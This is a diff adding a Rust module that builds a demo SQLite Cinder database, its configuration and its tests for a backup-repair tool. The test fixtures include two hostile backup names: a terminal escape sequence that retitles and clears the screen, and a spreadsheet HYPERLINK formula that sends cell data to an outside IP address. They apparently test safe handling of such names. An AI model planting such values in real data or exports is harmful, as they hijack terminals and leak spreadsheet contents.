@@ -1,0 +1,275 @@
+//! The files that the demo plays on: a folder with a Cinder database, a cinder.conf, and whatever the commands write.
+//!
+//! Beside `db` this is the one place that uses rusqlite, and the only one that creates a database: what happens behind the
+//! program's back (a service that beats, a colleague who writes by hand) must not go through its own sessions.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io;
+use std::os::unix::fs::DirBuilderExt;
+use std::path::{Path, PathBuf};
+
+use rusqlite::{Connection, OpenFlags};
+use tempfile::TempDir;
+
+use crate::cli::error::{Error, Result};
+use crate::cli::exit::Exit;
+use crate::config::{DatabaseSettings, Origin, Target};
+
+const SCHEMA: &str = include_str!("../../../../sql/demo/schema.sql");
+const ROWS: &str = include_str!("../../../../sql/demo/rows.sql");
+const HEARTBEAT: &str = include_str!("../../../../sql/demo/heartbeat.sql");
+const STATE: &str = include_str!("../../../../sql/demo/state.sql");
+/// What a colleague does by hand while a plan waits.
+pub const MEANWHILE: &str = include_str!("../../../../sql/demo/meanwhile.sql");
+
+const DATABASE: &str = "cinder.sqlite";
+const CONFIGURATION: &str = "cinder.conf";
+const AUDIT_LOG: &str = "audit.jsonl";
+
+/// Every row that a repair may touch, by table and id.
+pub type State = BTreeMap<(String, String), Row>;
+
+/// What a repair may change in a row.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Row {
+    /// All of it in one text, but for `updated_at`.
+    pub content: String,
+    /// Each write sets this.
+    pub updated_at: Option<String>,
+}
+
+/// A folder with the demo's files.
+pub struct Stage {
+    folder: PathBuf,
+    /// Removes the folder when it is dropped; `None` for one that is to be kept.
+    temporary: Option<TempDir>,
+    connection: Connection,
+}
+
+impl Stage {
+    /// Makes the folder and fills it. A folder to keep must not exist, or be empty.
+    pub fn build(keep: Option<&Path>) -> Result<Self> {
+        let (folder, temporary) = match keep {
+            Some(keep) => (kept_folder(keep)?, None),
+            None => {
+                let temporary = tempfile::Builder::new().prefix("cinder-backup-repair-demo-").tempdir().map_err(|error| {
+                    Error::new(Exit::Unexpected, format!("cannot make a temporary folder: {error}"))
+                        .hint("set TMPDIR to a folder that can be written, or give --keep DIR")
+                })?;
+                (temporary.path().to_owned(), Some(temporary))
+            }
+        };
+        let path = folder.join(DATABASE);
+        let failed = |error: &rusqlite::Error| Error::new(Exit::Unexpected, format!("cannot make {}: {error}", path.display()));
+        let connection = create(&path).map_err(|error| failed(&error))?;
+        let stage = Self { folder, temporary, connection };
+        let configuration = format!(
+            "# What a controller has in /etc/cinder/cinder.conf, as far as this program reads it.\n\
+             [DEFAULT]\nservice_down_time = 60\n\n[database]\nconnection = {}\n",
+            stage.url()
+        );
+        let path = stage.configuration();
+        fs::write(&path, configuration)
+            .map_err(|error| Error::new(Exit::Unexpected, format!("cannot write {}: {error}", path.display())))?;
+        Ok(stage)
+    }
+
+    /// The folder.
+    pub fn folder(&self) -> &Path {
+        &self.folder
+    }
+
+    /// Whether the files stay.
+    pub fn is_kept(&self) -> bool {
+        self.temporary.is_none()
+    }
+
+    /// A file in the folder.
+    pub fn file(&self, name: &str) -> PathBuf {
+        self.folder.join(name)
+    }
+
+    /// The demo's cinder.conf.
+    pub fn configuration(&self) -> PathBuf {
+        self.file(CONFIGURATION)
+    }
+
+    /// The demo's audit log.
+    pub fn audit_log(&self) -> PathBuf {
+        self.file(AUDIT_LOG)
+    }
+
+    /// The database as a URL.
+    pub fn url(&self) -> String {
+        let target = Target::Sqlite { path: self.file(DATABASE) };
+        DatabaseSettings { target, origin: Origin::Flag("--database-url"), password_origin: None, warnings: Vec::new() }.describe()
+    }
+
+    /// Lets the living service beat; however slow the machine is, it must not look dead.
+    pub fn beat(&self) -> Result<()> {
+        self.execute(HEARTBEAT)
+    }
+
+    /// Changes rows as somebody else would, past all of this program.
+    pub fn execute(&self, sql: &str) -> Result<()> {
+        self.connection.execute_batch(sql).map_err(|error| self.failed(&error))
+    }
+
+    /// Every row that a repair may touch, as it is now.
+    pub fn state(&self) -> Result<State> {
+        let read = || -> rusqlite::Result<State> {
+            let mut statement = self.connection.prepare_cached(STATE)?;
+            let rows =
+                statement.query_map([], |row| Ok(((row.get(0)?, row.get(1)?), Row { content: row.get(2)?, updated_at: row.get(3)? })))?;
+            rows.collect()
+        };
+        read().map_err(|error| self.failed(&error))
+    }
+
+    /// Closes the database, and removes the folder unless it is to be kept.
+    pub fn close(self) -> io::Result<()> {
+        drop(self.connection);
+        self.temporary.map_or(Ok(()), TempDir::close)
+    }
+
+    fn failed(&self, error: &rusqlite::Error) -> Error {
+        Error::new(Exit::Unexpected, format!("the demo's own database {}: {error}", self.file(DATABASE).display()))
+    }
+}
+
+fn kept_folder(keep: &Path) -> Result<PathBuf> {
+    let shown = keep.display();
+    match fs::read_dir(keep) {
+        Ok(mut entries) => {
+            if entries.next().is_some() {
+                return Err(Error::usage(format!("--keep {shown}: the folder is not empty, and nothing is overwritten; give another")));
+            }
+        }
+        Err(error) if error.kind() == io::ErrorKind::NotFound => {
+            let made = fs::DirBuilder::new().recursive(true).mode(0o700).create(keep);
+            made.map_err(|error| Error::usage(format!("--keep {shown}: cannot make the folder: {error}")))?;
+        }
+        Err(error) => return Err(Error::usage(format!("--keep {shown}: {error}; give a folder that is empty or not there yet"))),
+    }
+    keep.canonicalize().map_err(|error| Error::usage(format!("--keep {shown}: {error}")))
+}
+
+fn create(path: &Path) -> rusqlite::Result<Connection> {
+    let flags = OpenFlags::SQLITE_OPEN_READ_WRITE | OpenFlags::SQLITE_OPEN_CREATE | OpenFlags::SQLITE_OPEN_NO_MUTEX;
+    let mut connection = Connection::open_with_flags(path, flags)?;
+    let transaction = connection.transaction()?;
+    transaction.execute_batch(SCHEMA)?;
+    transaction.execute_batch(ROWS)?;
+    transaction.commit()?;
+    Ok(connection)
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]
+mod tests {
+    use super::*;
+    use crate::db::SessionSettings;
+    use crate::domain::{Policy, Selection, Verdict};
+
+    fn scanned(stage: &Stage) -> crate::scan::Scan {
+        let mut session = crate::db::sqlite::open(&stage.file(DATABASE), &SessionSettings::default()).unwrap();
+        let schema = crate::db::schema::probe(session.as_mut()).unwrap();
+        assert_eq!(schema.release, "2024.1 to 2026.2 (revision 9c74c1c6971f)");
+        assert!(schema.has_attachments && schema.has_quotas);
+        crate::scan::scan(session.as_mut(), &schema, &Policy::default(), &Selection::default()).unwrap()
+    }
+
+    #[test]
+    fn every_chapter_of_the_story_is_found_and_nothing_else() {
+        let stage = Stage::build(None).unwrap();
+        let scan = scanned(&stage);
+        let mut found: Vec<(&str, &str, Verdict)> = scan
+            .document
+            .findings
+            .iter()
+            .map(|finding| (finding.name.as_deref().unwrap_or("-"), finding.evidence[0].code.as_str(), finding.verdict))
+            .collect();
+        found.sort_unstable_by_key(|(name, code, _)| (*name, *code));
+        let (stuck, inconsistent) = (Verdict::Stuck, Verdict::Inconsistent);
+        let expected = [
+            ("\u{1b}]0;owned\u{7}\u{1b}[2Jmigration", "service-missing", stuck),
+            ("-", "never-scheduled", stuck),
+            ("=HYPERLINK(\"http://203.0.113.9/?\"&A1)", "service-down", stuck),
+            ("build-cache", "no-active-backup", stuck),
+            ("crm-db full", "counter-wrong", inconsistent),
+            ("erp-db nightly", "service-down", stuck),
+            ("files-stage2 nightly", "service-up", Verdict::Uncertain),
+            ("git full", "service-down", stuck),
+            ("hr-db nightly", "temporary-leftover", inconsistent),
+            ("ldap-data nightly", "recent", Verdict::Recent),
+            ("mail-spool weekly", "service-down", stuck),
+            ("portal-db increment 4", "parent-missing", inconsistent),
+            ("portal-db weekly", "service-down", stuck),
+            ("scratch before the test", "never-scheduled", stuck),
+            ("wiki before the upgrade", "service-down", stuck),
+        ];
+        assert_eq!(found, expected);
+        let notices: Vec<&str> = scan.document.notices.iter().map(|notice| notice.code.as_str()).collect();
+        assert_eq!(notices, ["quota-wrong"]);
+        assert_eq!(scan.census.live, 80);
+    }
+
+    #[test]
+    fn the_rows_hold_together() {
+        let stage = Stage::build(None).unwrap();
+        let one = |sql: &str| stage.connection.query_row(sql, [], |row| row.get::<_, i64>(0)).unwrap();
+        assert_eq!(one("SELECT count(*) FROM pragma_foreign_key_check"), 0);
+        assert_eq!(one("SELECT count(*) FROM backups WHERE deleted = 1"), 1_200);
+        assert_eq!(one("SELECT count(*) FROM backups WHERE deleted = 1 AND (status <> 'deleted' OR deleted_at IS NULL)"), 0);
+        let ids = "SELECT id FROM backups UNION ALL SELECT id FROM volumes UNION ALL SELECT id FROM snapshots UNION ALL SELECT id FROM volume_attachment";
+        let odd =
+            format!("SELECT count(*) FROM ({ids}) WHERE id NOT GLOB '????????-????-4???-[89ab]???-????????????' OR id GLOB '*[^0-9a-f-]*'");
+        assert_eq!(one(&odd), 0);
+        // SQLAlchemy reads no other spelling.
+        let times = "SELECT count(*) FROM backups WHERE created_at NOT GLOB '????-??-?? ??:??:??.??????' OR created_at > strftime('%Y-%m-%d %H:%M:%f', 'now')";
+        assert_eq!(one(times), 0);
+        assert_eq!(stage.state().unwrap().len(), 1_280 + 43 + 1);
+    }
+
+    #[test]
+    fn a_temporary_folder_goes_and_a_kept_one_stays() {
+        let stage = Stage::build(None).unwrap();
+        let folder = stage.folder().to_owned();
+        assert!(!stage.is_kept() && stage.configuration().is_file());
+        stage.close().unwrap();
+        assert!(!folder.exists());
+
+        let parent = tempfile::tempdir().unwrap();
+        let keep = parent.path().join("new").join("demo");
+        let stage = Stage::build(Some(&keep)).unwrap();
+        assert!(stage.is_kept());
+        stage.close().unwrap();
+        assert!(keep.join(DATABASE).is_file());
+        let error = Stage::build(Some(&keep)).err().unwrap();
+        assert_eq!(error.exit, Exit::Usage);
+        assert!(error.error.to_string().contains("not empty"), "{}", error.error);
+        let error = Stage::build(Some(&keep.join(DATABASE))).err().unwrap();
+        assert_eq!(error.exit, Exit::Usage);
+        Stage::build(Some(&parent.path().join("odd % $ ? name"))).unwrap();
+    }
+
+    #[test]
+    fn a_folder_that_cannot_be_made_is_named() {
+        let error = Stage::build(Some(Path::new("/proc/no/such"))).err().unwrap();
+        assert!(error.error.to_string().contains("--keep /proc/no/such: "), "{}", error.error);
+    }
+
+    #[test]
+    fn what_others_do_is_seen() {
+        let stage = Stage::build(None).unwrap();
+        let before = stage.state().unwrap();
+        stage.beat().unwrap();
+        assert_eq!(stage.state().unwrap(), before);
+        stage.execute(MEANWHILE).unwrap();
+        let after = stage.state().unwrap();
+        let moved: Vec<_> = after.iter().filter(|(key, row)| before[*key] != **row).collect();
+        assert_eq!(moved.len(), 1);
+        assert!(moved[0].1.content.contains("'error'"));
+    }
+}
